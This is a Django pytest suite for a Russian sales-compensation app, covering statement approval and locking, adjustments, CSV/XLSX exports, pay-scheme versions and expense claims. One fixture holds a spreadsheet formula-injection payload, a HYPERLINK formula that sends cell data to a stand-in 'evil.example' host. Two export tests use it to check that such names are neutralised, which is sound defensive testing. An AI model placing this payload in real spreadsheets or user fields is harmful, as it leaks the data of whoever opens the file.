"""The statement pages as the hunter, the head and the accountant use them."""

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from accounts.roles import Role
from compensation.models import Adjustment, Statement, StatementLine
from compensation.scenario import import_scenario
from compensation.services import StatementLocked, adjustment_add
from tests.factories import UserFactory
from tests.workflow import close_month

WORKED_EXAMPLE = json.loads(
    (Path(__file__).parent / "scenarios" / "worked_example.json").read_text(encoding="utf-8")
)
MARCH = "2026-03"


@pytest.fixture
def people(db):
    import_scenario(WORKED_EXAMPLE)
    return {user.username: user for user in User.objects.all()}


def statement_url(username="ivanov", month=MARCH):
    return reverse("compensation:statement", args=[username, month])


def text(response) -> str:
    return response.content.decode().replace("\u00a0", " ")


def test_hunter_sees_own_statement_with_every_line_explained(client, people):
    client.force_login(people["ivanov"])
    page = text(client.get(statement_url()))
    assert "38 000,00 ₽" in page
    assert "ускоритель" in page
    assert "ООО «Ромашка»" in page  # each commission line links to its deal


def test_hunter_cannot_see_another_hunters_statement(client, people):
    client.force_login(UserFactory(role=Role.HUNTER))
    assert client.get(statement_url()).status_code == 404


def test_statements_of_a_month_are_for_the_head_and_the_accountant_only(client, people):
    url = reverse("compensation:statements") + f"?month={MARCH}"
    client.force_login(people["ivanov"])
    assert client.get(url).status_code == 403
    for username in ("head", "buh"):
        client.force_login(people[username])
        assert "38 000,00 ₽" in text(client.get(url))


def march_record(people) -> Statement:
    return Statement.objects.get(hunter=people["ivanov"], month="2026-03-01")


def test_head_approves_accountant_confirms_the_list_locks_and_the_locked_statement_never_changes(
    client, people
):
    url = reverse("compensation:statements") + f"?month={MARCH}"
    client.force_login(people["buh"])
    client.post(url, {"action": "lock", "hunter": people["ivanov"].pk})
    assert march_record(people).status == "draft"  # nothing is locked before the head approves

    client.force_login(people["head"])
    client.post(url, {"action": "approve", "hunter": people["ivanov"].pk})
    assert march_record(people).status == "approved"
    assert march_record(people).approved_total == 38000

    client.force_login(people["buh"])
    confirm = text(client.get(url + "&confirm=lock"))
    assert "Закрыть расчётные листы за март 2026?" in confirm
    assert 'Иван Иванов — <span class="money">38 000,00 ₽</span>' in confirm
    client.post(url, {"action": "lock", "hunter": people["ivanov"].pk})
    record = march_record(people)
    assert record.status == "locked" and record.total == 38000
    assert StatementLine.objects.filter(statement=record).count() == 5

    # a correction for a locked month is refused; it belongs in an open month
    with pytest.raises(StatementLocked):
        adjustment_add(
            acting_user=people["head"], hunter=people["ivanov"], month=record.month, amount=100, reason="…"
        )
    client.force_login(people["ivanov"])
    assert "38 000,00 ₽" in text(client.get(statement_url()))


def test_the_accountant_locks_only_what_she_confirmed(client, people):
    url = reverse("compensation:statements") + f"?month={MARCH}"
    client.force_login(people["head"])
    client.post(url, {"action": "approve_all"})
    client.force_login(people["buh"])
    client.post(url, {"action": "lock"})  # no list confirmed
    assert march_record(people).status == "approved"


def test_the_accountants_adjustment_is_a_proposal_until_the_head_approves_it(client, people):
    client.force_login(people["buh"])
    response = client.post(statement_url(), {"amount": "-500.00", "reason": "Возврат аванса на бензин"})
    assert response.status_code == 302
    page = text(client.get(statement_url()))
    assert "Возврат аванса на бензин" in page and "ждёт решения руководителя" in page
    assert "38 000,00 ₽" in page

    client.force_login(people["head"])
    adjustment = Adjustment.objects.get()
    client.post(statement_url(), {"action": "accept_adjustment", "adjustment": adjustment.pk})
    page = text(client.get(statement_url()))
    assert "37 500,00 ₽" in page


def test_the_heads_adjustment_counts_at_once(client, people):
    client.force_login(people["head"])
    client.post(statement_url(), {"amount": "250.00", "reason": "Премия за выставку"})
    assert "38 250,00 ₽" in text(client.get(statement_url()))


def test_export_csv_opens_in_russian_excel(client, people):
    client.force_login(people["buh"])
    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "csv"})
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Хантер"
    assert rows[1][11] == "10000,00"
    assert rows[-1][0] == "Итого по всем листам" and rows[-1][11] == "38000,00"


def test_export_xlsx_has_the_lines_and_the_total(client, people):
    client.force_login(people["head"])
    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [row for row in sheet.iter_rows(values_only=True)]
    assert values[-2][3] == "Итого к выплате"
    assert values[-1][0] == "Итого по всем листам"
    assert float(values[-1][11]) == 38000.0


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'


@pytest.fixture
def formula_named_hunter_with_a_deduction(people):
    """A hunter whose name is a spreadsheet formula, with a -500.00 correction in March."""
    ivanov = people["ivanov"]
    ivanov.full_name = FORMULA_NAME
    ivanov.save(update_fields=["full_name"])
    adjustment_add(
        acting_user=people["head"],
        hunter=ivanov,
        month=date(2026, 3, 1),
        amount=Decimal("-500.00"),
        reason="Штраф",
    )
    return ivanov


def test_export_csv_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
    client, people, formula_named_hunter_with_a_deduction
):
    client.force_login(people["buh"])
    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))

    ivanov_rows = [row for row in rows if row[0].endswith(FORMULA_NAME)]
    assert ivanov_rows and {row[0] for row in ivanov_rows} == {"'" + FORMULA_NAME}
    assert not [value for row in rows for value in row if value.startswith(("=", "+", "@", "\t", "\r"))]
    [deduction] = [row for row in ivanov_rows if row[8] == "Корректировка: Штраф"]
    assert deduction[11] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"


def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
    client, people, formula_named_hunter_with_a_deduction
):
    client.force_login(people["head"])
    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    first_cells = [row[0].value or "" for row in sheet.iter_rows(min_row=2)]
    names = {value for value in first_cells if value.endswith(FORMULA_NAME)}
    assert names == {"'" + FORMULA_NAME}
    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[8].value == "Корректировка: Штраф"]
    assert deduction[11].data_type == "n" and deduction[11].value == -500


def test_scheme_page_shows_the_live_rates_and_only_the_head_changes_them(client, people):
    client.force_login(people["ivanov"])
    page = text(client.get(reverse("compensation:scheme")))
    assert "10 000,00 ₽" in page and "5 %" in page
    assert client.post(reverse("compensation:scheme"), {}).status_code == 403


def test_the_expense_form_offers_the_camera_for_the_receipt_and_a_number_keyboard(client, people):
    client.force_login(people["ivanov"])
    page = client.get(reverse("compensation:expenses")).content.decode()
    receipt = re.search(r'<input[^>]*name="receipt"[^>]*>', page).group(0)
    assert 'capture="environment"' in receipt and 'accept="image/*,application/pdf"' in receipt
    amount = re.search(r'<input[^>]*name="amount"[^>]*>', page).group(0)
    assert 'inputmode="decimal"' in amount


def test_hunter_claims_an_expense_the_head_approves_part_and_it_is_paid_with_the_month(
    client, people, tmp_path, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.utils import timezone

    from compensation.models import Expense

    settings.MEDIA_ROOT = tmp_path
    client.force_login(people["ivanov"])
    receipt = SimpleUploadedFile("chek.pdf", b"%PDF-1.4 taxi receipt", content_type="application/pdf")
    response = client.post(
        reverse("compensation:expenses"),
        {"amount": "1200.00", "note": "Такси до клиента", "receipt": receipt},
    )
    assert response.status_code == 302
    expense = Expense.objects.get()
    client.force_login(people["head"])
    client.post(reverse("compensation:expenses"), {"expense": expense.pk, "approved_amount": "1000.00"})
    expense.refresh_from_db()
    assert (expense.status, expense.approved_amount) == ("approved", 1000)
    month = f"{timezone.localdate():%Y-%m}"
    client.force_login(people["ivanov"])
    page = text(client.get(statement_url(month=month)))
    assert "Такси до клиента" in page and "1 000,00 ₽" in page
    assert client.get(reverse("compensation:expense_receipt", args=[expense.pk])).status_code == 200
    client.force_login(UserFactory(role=Role.HUNTER))
    assert client.get(reverse("compensation:expense_receipt", args=[expense.pk])).status_code == 404


def test_hunter_asks_about_a_line_and_the_answer_brings_an_adjustment(client, people):
    from django.utils import timezone

    from compensation.models import Adjustment, Dispute

    client.force_login(people["ivanov"])
    client.post(
        statement_url(),
        {"action": "dispute", "line_text": "Фиксированная часть", "comment": "Почему 10 000?"},
    )
    dispute = Dispute.objects.get()
    client.force_login(people["buh"])
    assert "Почему 10 000?" in text(client.get(statement_url()))
    client.post(
        statement_url(),
        {"action": "answer", "dispute": dispute.pk, "answer": "Пересчитали", "correction": "250"},
    )
    dispute.refresh_from_db()
    assert dispute.status == "answered"
    adjustment = Adjustment.objects.get()
    assert adjustment.month == timezone.localdate().replace(day=1) and adjustment.amount == 250


def test_a_locked_statement_cannot_be_changed_below_the_pages_either(people):
    from compensation.models import LockedStatementError
    from compensation.services import statements_mark_paid
    from kpi.months import parse_month

    close_month(people["ivanov"], parse_month(MARCH), head=people["head"], accountant=people["buh"])
    record = march_record(people)
    record.total = 1
    with pytest.raises(LockedStatementError):
        record.save()
    line = record.lines.first()
    line.amount = 0
    with pytest.raises(LockedStatementError):
        line.save()
    with pytest.raises(LockedStatementError):
        line.delete()
    with pytest.raises(LockedStatementError):
        Statement.objects.get(pk=record.pk).delete()
    assert statements_mark_paid(acting_user=people["buh"], month=parse_month(MARCH)) == 1
    assert Statement.objects.get(pk=record.pk).total == 38000


SCHEME_POST = {
    "effective_from": "2026-06-01",
    "fixed_amount": "12000.00",
    "new_client_rate": "0.06",
    "existing_client_rate": "0.03",
    "margin_bonus_rate": "0.10",
    "accelerator": "marginal",
    "accelerator_multiplier": "2",
    "department_bonus_split": "equal",
}


def test_head_adds_a_scheme_version_and_saving_the_month_again_replaces_it(client, people):
    from compensation.models import PaySchemeVersion

    client.force_login(people["head"])
    assert client.post(reverse("compensation:scheme"), SCHEME_POST).status_code == 302
    assert (
        client.post(reverse("compensation:scheme"), {**SCHEME_POST, "fixed_amount": "15000"}).status_code
        == 302
    )

    version = PaySchemeVersion.objects.get(effective_from="2026-06-01")
    assert (version.fixed_amount, version.new_client_rate) == (15000, Decimal("0.06"))


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("new_client_rate", "5", "5 % — это 0,05"),
        ("margin_bonus_rate", "-0.1", "5 % — это 0,05"),
        ("accelerator_multiplier", "0.5", "не может быть меньше 1"),
        ("fixed_amount", "-1", "не может быть отрицательной"),
    ],
)
def test_a_scheme_the_rules_cannot_pay_by_is_refused_with_the_reason_beside_the_field(
    client, people, field, value, message
):
    from compensation.models import PaySchemeVersion

    client.force_login(people["head"])
    before = PaySchemeVersion.objects.count()
    response = client.post(reverse("compensation:scheme"), {**SCHEME_POST, field: value})

    assert response.status_code == 400
    assert message in response.context["form"].errors[field][0]
    assert message in text(response)
    assert PaySchemeVersion.objects.count() == before


# --- no plan, a KPI plan of zeros, a KPI plan ---------------------------------------------------------

NO_TARGETS = dict.fromkeys(
    ["revenue_target", "deals_target", "leads_target", "calls_target", "meetings_target", "messages_target"],
    0,
)


def plan_card(page: str) -> str:
    start = page.index("План месяца</h2>")
    return " ".join(re.sub(r"<[^>]+>", " ", page[start : page.index("</section>", start)]).split())


def fixed_row(page: str) -> str:
    match = re.search(r'<tr class="statement-line" data-kind="fixed">(.*?)</tr>', page, re.S)
    assert match, "no fixed line"
    return " ".join(re.sub(r"<[^>]+>", " ", match.group(1)).split())


def test_the_statement_page_tells_a_kpi_plan_of_zeros_from_a_missed_one_and_from_no_plan(
    client, sales_head, hunter, other_hunter
):
    from kpi.months import parse_month
    from tests.kpi.factories import set_plan

    march = parse_month(MARCH)
    set_plan(sales_head, hunter, march, **{**NO_TARGETS, "revenue_target": Decimal("50000")})
    set_plan(sales_head, other_hunter, march, **{**NO_TARGETS, "calls_target": 10})
    client.force_login(sales_head)

    zeros = text(client.get(statement_url(hunter.username)))
    missed = text(client.get(statement_url(other_hunter.username)))
    client.force_login(hunter)
    own = text(client.get(statement_url(hunter.username)))
    no_plan = text(client.get(statement_url(hunter.username, "2026-02")))

    assert "Фиксированная часть не начислена: план KPI не задан" in fixed_row(zeros)
    assert "0,00 ₽" in fixed_row(zeros)
    assert "План KPI не задан" in plan_card(zeros) and "KPI не выполнен" not in plan_card(zeros)
    assert "Выручка: 0,00 ₽ · план 50 000,00 ₽" in plan_card(zeros)  # the plan's own figures, zeros shown
    assert "Фиксированная часть не начислена: план KPI не выполнен" in fixed_row(missed)
    assert "KPI не выполнен" in plan_card(missed)
    assert fixed_row(own) == fixed_row(zeros)
    assert "План на этот месяц не установлен." in plan_card(no_plan)
    assert "план KPI не задан" in fixed_row(no_plan)


def test_a_locked_statements_plan_card_shows_the_target_as_the_target(client, people):
    close_month(people["ivanov"], date(2026, 3, 1))
    client.force_login(people["ivanov"])

    locked = plan_card(text(client.get(statement_url())))
    # A statement stored without its month's figures shows the target alone, named as the target.
    Statement.objects.filter(hunter=people["ivanov"], month=date(2026, 3, 1)).update(counters=None)
    without_figures = plan_card(text(client.get(statement_url())))

    assert "Выручка: 350 000,00 ₽ · план 300 000,00 ₽" in locked
    assert "Завершённые сделки: 2 · план 2" in locked
    assert "План по выручке: 300 000,00 ₽" in without_figures
    assert "Выручка: 300 000,00 ₽" not in without_figures
    assert "План по завершённым сделкам: 2" in without_figures


def test_the_scheme_page_announces_a_version_saved_for_a_later_month(client, people):
    from compensation import rules
    from compensation.services import scheme_save

    scheme_save(
        acting_user=people["head"],
        effective_from=date(2099, 1, 1),
        fixed_amount=Decimal("15000"),
        new_client_rate=Decimal("0.05"),
        existing_client_rate=Decimal("0.025"),
        margin_bonus_rate=Decimal("0.10"),
        accelerator=rules.ACCELERATOR_MARGINAL,
        accelerator_multiplier=Decimal("2"),
        department_bonus_split=rules.SPLIT_EQUAL,
    )
    client.force_login(people["ivanov"])

    page = text(client.get(reverse("compensation:scheme")))

    assert "Сохранена новая редакция: она действует с января 2099" in page
    assert "только на выручку сверх плана, оплата на границе делится" in page


def test_the_months_statement_list_says_which_kpi_plans_are_not_set(client, sales_head, accountant, hunter):
    from kpi.months import parse_month
    from tests.kpi.factories import set_plan

    set_plan(sales_head, hunter, parse_month(MARCH), **NO_TARGETS)
    url = reverse("compensation:statements") + f"?month={MARCH}"

    for user in (sales_head, accountant):
        client.force_login(user)
        row = re.search(r"<tr>\s*<td><a [^>]*>Иван Иванов</a>(.*?)</tr>", text(client.get(url)), re.S)
        assert row and "<td>не задан</td>" in row.group(1)
    client.force_login(hunter)
    assert client.get(url).status_code == 403


# --- the scheme form's effective date -----------------------------------------------------------------


def effective_from_input(page: str) -> str:
    match = re.search(r'<input type="date" name="effective_from"[^>]*>', page)
    assert match, "no effective date input"
    return match.group(0)


def test_the_scheme_form_offers_the_first_day_of_next_month_as_an_iso_date(client, people):
    from django.utils import timezone

    from kpi.months import month_start, next_month

    close_month(people["ivanov"], date(2026, 3, 1), head=people["head"], accountant=people["buh"])
    client.force_login(people["head"])

    page = text(client.get(reverse("compensation:scheme")))

    expected = next_month(month_start(timezone.localdate()))
    assert f'value="{expected:%Y-%m-%d}"' in effective_from_input(page)
    assert 'name="fixed_amount" value="10000.00"' in page  # the rates in force, as a number input takes them


def test_a_scheme_dated_into_a_locked_month_is_refused_naming_the_first_open_month(client, people):
    from compensation.models import PaySchemeVersion

    close_month(people["ivanov"], date(2026, 3, 1), head=people["head"], accountant=people["buh"])
    client.force_login(people["head"])
    before = PaySchemeVersion.objects.count()

    response = client.post(reverse("compensation:scheme"), {**SCHEME_POST, "effective_from": "2026-03-01"})

    assert response.status_code == 400
    page = text(response)
    assert "С этой даты уже есть закрытые расчётные листы" in page
    assert "Новая редакция может действовать с 01.04.2026 или позже." in page
    assert 'value="2026-03-01"' in effective_from_input(page)  # re-rendered as the date input takes it
    assert PaySchemeVersion.objects.count() == before
    assert (
        client.post(
            reverse("compensation:scheme"), {**SCHEME_POST, "effective_from": "2026-04-01"}
        ).status_code
        == 302
    )


def test_only_the_head_gets_the_scheme_form(client, people):
    from compensation.models import PaySchemeVersion

    before = PaySchemeVersion.objects.count()
    for username in ("ivanov", "buh"):
        client.force_login(people[username])
        assert 'name="effective_from"' not in text(client.get(reverse("compensation:scheme")))
        assert client.post(reverse("compensation:scheme"), SCHEME_POST).status_code == 403
    assert PaySchemeVersion.objects.count() == before


# --- expense claims for meetings ----------------------------------------------------------------------


def meeting_of(hunter, client_name: str, at):
    from kpi.models import ActivityKind
    from kpi.services import activity_log
    from tests.deals.factories import make_client

    return activity_log(
        acting_user=hunter,
        kind=ActivityKind.MEETING,
        client=make_client(acting_user=hunter, name=client_name),
        at=at,
    )


def receipt():
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("chek.pdf", b"%PDF-1.4 taxi receipt", content_type="application/pdf")


def test_an_expense_claimed_for_a_meeting_is_accepted(client, hunter, tmp_path, settings):
    from django.utils import timezone

    from compensation.models import Expense

    settings.MEDIA_ROOT = tmp_path
    meeting = meeting_of(hunter, "Ресторан «Сургут»", timezone.now())
    client.force_login(hunter)

    response = client.post(
        reverse("compensation:expenses"),
        {"amount": "850.00", "meeting": meeting.pk, "note": "Такси до ресторана", "receipt": receipt()},
    )

    assert response.status_code == 302
    expense = Expense.objects.get()
    assert (expense.meeting, expense.hunter, expense.amount) == (meeting, hunter, Decimal("850.00"))


def test_an_expense_for_another_hunters_meeting_is_refused(client, hunter, other_hunter, tmp_path, settings):
    from django.utils import timezone

    from compensation.models import Expense

    settings.MEDIA_ROOT = tmp_path
    theirs = meeting_of(other_hunter, "Кафе «Чужое»", timezone.now())
    client.force_login(hunter)

    response = client.post(
        reverse("compensation:expenses"),
        {"amount": "850.00", "meeting": theirs.pk, "note": "Такси", "receipt": receipt()},
    )

    assert response.status_code == 400
    assert "Выберите корректный вариант" in text(response)
    assert not Expense.objects.exists()


def test_the_meeting_picker_names_the_client_the_deal_and_the_local_time(client, hunter):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    from kpi.models import ActivityKind
    from kpi.services import activity_log
    from tests.deals.factories import make_client, make_deal

    now = timezone.localtime()
    # 14:30 in Yekaterinburg is 09:30 UTC: the picker shows the hunter's time.
    at = datetime(now.year, now.month, now.day, 14, 30, tzinfo=ZoneInfo("Asia/Yekaterinburg"))
    if at > now:
        at -= timezone.timedelta(days=1)
    lotus = make_client(acting_user=hunter, name="Салон «Лотос»")
    deal = make_deal(acting_user=hunter, client=lotus, title="Поставка к весне")
    activity_log(acting_user=hunter, kind=ActivityKind.MEETING, client=lotus, deal=deal, at=at)
    meeting_of(hunter, "Кафе «Северное»", at)
    client.force_login(hunter)

    page = text(client.get(reverse("compensation:expenses")))

    options = re.findall(r'<option value="\d+">(.*?)</option>', page)
    # The moment first (a phone's closed dropdown shows its start), without the year of this year.
    day = f"{at:%d.%m}" if at.year == now.year else f"{at:%d.%m.%Y}"
    assert sorted(options) == [
        f"{day} 14:30 — Кафе «Северное»",
        f"{day} 14:30 — Салон «Лотос» — Поставка к весне (Выборка потенциальных клиентов)",
    ]
    assert "09:30" not in page and "Сделка №" not in page


def test_the_meeting_picker_offers_the_latest_fifty_meetings(client, hunter):
    from django.utils import timezone

    from compensation.forms import ExpenseClaimForm

    now = timezone.now()
    meetings = [
        meeting_of(hunter, f"Кафе №{number}", now - timezone.timedelta(minutes=number))
        for number in range(52)
    ]

    form = ExpenseClaimForm(hunter=hunter)

    offered = list(form.fields["meeting"].queryset)
    assert offered == meetings[:50]
